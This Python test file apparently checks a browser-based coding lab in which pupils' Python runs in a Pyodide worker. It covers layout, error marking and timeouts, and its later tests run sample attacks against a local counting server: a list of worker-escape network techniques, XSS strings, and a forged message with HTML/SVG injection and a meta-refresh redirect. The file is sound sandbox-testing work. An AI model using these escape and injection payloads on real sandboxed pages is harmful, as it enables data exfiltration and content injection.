"""The editor in a real browser, and a pupil's code that tries to get out of its worker."""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from host_sim.lab.own_loop import START_CODE
from host_sim.lab.teaching.own_loop import SOLUTION
from tests.lab.serving import PATIENCE_S

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("lab in a browser")]
STEP = "\ndef step(edges, brake):\n    return 0\n"


def _ride(page, code=None):
    """Ride a code and return what the page says."""
    if code is not None:
        page.locator("#own-code").fill(code)
    page.get_by_role("button", name="Ride it").click()
    page.locator("#own-ride:not([disabled])").wait_for()
    return page.locator("#own-said").inner_text()


@pytest.mark.parametrize(("width", "height"), [(1920, 1080), (1280, 720), (390, 844)])
def test_it_fits_the_screen_and_shows_which_rules_hold(opened, width, height):
    page = opened(width, height, number=7)
    assert page.get_by_role("textbox", name="Your controller, in Python").input_value() == START_CODE
    assert _ride(page) == "1 of 3 rules held."
    assert [one.get_attribute("class") for one in page.locator("#own-rules li").all()] == ["lab-held", "", ""]
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert "1 of 3 rules held" in page.get_by_role("img").get_attribute("alt")
    if width > 1000:
        assert page.evaluate("document.documentElement.scrollHeight") <= height
    assert _ride(page, SOLUTION).startswith("All three rules held")
    assert page.locator("#own-rules .lab-held").count() == 3


def test_an_error_is_explained_and_its_line_is_marked_and_keys_are_enough(opened):
    page = opened(1280, 720, number=7)
    editor = page.get_by_role("textbox", name="Your controller, in Python")
    editor.fill("quiet = 0\ndef step(edges, brake):\n    return quite\n")
    editor.press("Control+Enter")
    page.locator("#own-said", has_text="line 3 (`return quite`): this name is unknown").wait_for()
    marked = page.evaluate(
        "() => { const e = document.getElementById('own-code');"
        " return e.value.slice(e.selectionStart, e.selectionEnd); }"
    )
    assert marked == "    return quite"
    editor.press("Tab")  # The key leaves the editor: nobody is caught in it.
    assert page.evaluate("document.activeElement.id") == "own-ride"
    page.get_by_role("button", name="Start again").click()
    assert editor.input_value() == START_CODE


def test_every_ride_begins_anew_and_an_endless_loop_ends_after_three_seconds(opened):
    page = opened(1280, 720, number=7)
    _ride(page, "import builtins\nprint(hasattr(builtins, 'left'))\nbuiltins.left = 1" + STEP)
    assert _ride(page, "import builtins\nprint(hasattr(builtins, 'left'))" + STEP)
    assert page.locator("#own-printed").inner_text().splitlines()[0] == "False"
    for code in (
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        0",
        "kept = []\nwhile True:\n    kept.append(bytearray(10_000_000))",
    ):
        said = _ride(page, code)
        assert "within 3 s" in said or "memory" in said or "too early" in said
    assert _ride(page, START_CODE) == "1 of 3 rules held."


def test_what_the_code_sends_is_text_and_never_a_part_of_the_page(opened):
    page = opened(1280, 720, number=7)
    _ride(page, "print('<img src=x onerror=alert(1)><b>bold</b>')" + STEP)
    assert page.locator("#own-printed b, #own-printed img").count() == 0
    said = _ride(page, "raise ValueError('<b>bold</b>')")
    assert "<b>bold</b>" in said
    assert page.locator("#own-said b").count() == 0


class _Counter(BaseHTTPRequestHandler):
    """Another server on this computer; whatever reaches it is counted."""

    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"self.reached = 1;")

    def do_POST(self):
        self.do_GET()

    def do_OPTIONS(self):
        self.do_GET()

    def log_message(self, *words):
        pass


@pytest.fixture
def elsewhere():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Counter)
    server.asked = []
    Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


# Every way out of a worker that we know of. Scripts in texts are not run at all (no `eval`), so these use
# what the worker itself offers; what needs `import` as a word tries it from a worker inside the worker.
ATTACK = """
import js
from pyodide.ffi import create_proxy, to_js

def nested(text):
    options = to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
    blob = js.Blob.new(to_js([text]), options)
    js.Worker.new(js.URL.createObjectURL(blob))

def request():
    return to_js({"mode": "no-cors", "keepalive": True}, dict_converter=js.Object.fromEntries)

def xhr():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", "URL/xhr", False)
    asked.send()

def font():
    made = js.FontFace.new("x", "url(URL/font)")
    made.load()

def urllib_():
    import urllib.request
    urllib.request.urlopen("URL/urllib", timeout=0.1)

def socket_():
    import socket
    line = socket.create_connection(("127.0.0.1", int("URL".rpartition(":")[2])), timeout=0.1)
    line.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")

def pyfetch():
    import pyodide.http
    pyodide.http.open_url("URL/open_url")

ways = {
    "fetch": lambda: js.fetch("URL/fetch", request()),
    "xhr": xhr,
    "websocket": lambda: js.WebSocket.new("URL/websocket".replace("http", "ws")),
    "events": lambda: js.EventSource.new("URL/events"),
    "scripts": lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, "URL/scripts"),
    "worker": lambda: js.Worker.new("URL/worker"),
    "nested scripts": lambda: nested("try { importScripts('URL/nested-scripts') } catch {}"),
    "nested fetch": lambda: nested("fetch('URL/nested-fetch', {mode: 'no-cors'}).catch(() => 0)"),
    "nested import": lambda: nested("import('URL/nested-import').catch(() => 0)"),
    "transport": lambda: js.WebTransport.new("URL/transport".replace("http", "https")),
    "font": font,
    "cache": lambda: js.caches.open("x").then(create_proxy(lambda one: one.add("URL/cache"))),
    "later": lambda: js.setTimeout(create_proxy(lambda: js.fetch("URL/later", request())), 0),
    "eval": lambda: js.eval("fetch('URL/eval', {mode: 'no-cors'})"),
    "function": lambda: js.Function.new("fetch('URL/function', {mode: 'no-cors'})")(),
    "timer": lambda: js.setTimeout("fetch('URL/timer', {mode: 'no-cors'})", 0),
}
slow_ways = {"open_url": pyfetch, "socket": socket_, "urllib": urllib_}  # They wait for what does not come.
import builtins
again = hasattr(builtins, "tried")  # The code is run at the start of each of three rides.
builtins.tried = True
for way in () if again else WAYS.values():
    try:
        way()
    except BaseException:
        pass
# It makes its own answer impossible to send, so that it lives for three seconds and all that waits goes on.
import host_sim.lab.in_page
host_sim.lab.in_page.draw_own = lambda owned: js.fetch
js.self.postMessage = create_proxy(lambda *words: None)

def step(edges, brake):
    return 0
"""
FORGED = """
import js, json
from pyodide.ffi import to_js
answer = {
    "rules": [{"name": "<img src=URL/name>", "measured": "<script src=URL/measured></script>", "held": True}],
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' aria-label='x'><image href='URL/svg'/><style>@import "
    "'URL/style';</style><script href='URL/script'/></svg>",
    "refused": "<meta http-equiv=refresh content='0;url=URL/refresh'>",
    "said": ["<img src=URL/said>"],
    "line": {"toString": 1},
}
js.postMessage(to_js({"text": json.dumps(answer)}, dict_converter=js.Object.fromEntries))
while True:
    pass
"""


def _attack(window, page_address, elsewhere, code):
    """Ride an attack and return what reached the other server, and what the page said."""
    page = window.new_page()
    page.set_default_timeout(PATIENCE_S * 1000)
    page.goto(page_address + "#7")
    address = f"http://127.0.0.1:{elsewhere.server_address[1]}"
    said = _ride(page, code.replace("URL/", f"{address}/").replace('"URL"', f'"{address}"'))
    page.wait_for_timeout(500)  # For what is still on its way.
    return sorted(set(elsewhere.asked)), said


def test_a_pupils_code_can_not_reach_another_server(exported, chromium, elsewhere):
    window = chromium.new_context()
    for ways in ("ways", "slow_ways"):
        code = ATTACK.replace("WAYS", ways)
        reached, said = _attack(window, (exported / "index.html").as_uri(), elsewhere, code)
        assert reached == []
        assert "within 3 s" in said  # It had all its time.
    window.close()


def test_the_same_code_reaches_it_where_there_is_no_policy(exported, chromium, elsewhere):
    # Else the test above could not fail.
    window = chromium.new_context(bypass_csp=True)
    for ways in ("ways", "slow_ways"):
        code = ATTACK.replace("WAYS", ways)
        reached, _ = _attack(window, (exported / "index.html").as_uri(), elsewhere, code)
    window.close()
    expected = {"fetch", "xhr", "websocket", "later", "scripts", "nested-fetch", "nested-scripts", "open_url"}
    assert {f"/{one}" for one in expected} <= set(reached)


def test_a_forged_answer_loads_nothing_and_leads_nowhere(exported, chromium, elsewhere):
    window = chromium.new_context()
    reached, said = _attack(window, (exported / "index.html").as_uri(), elsewhere, FORGED)
    assert reached == []
    assert said.startswith("✗ <meta")
    assert window.pages[0].url.startswith("file://")
    window.close()
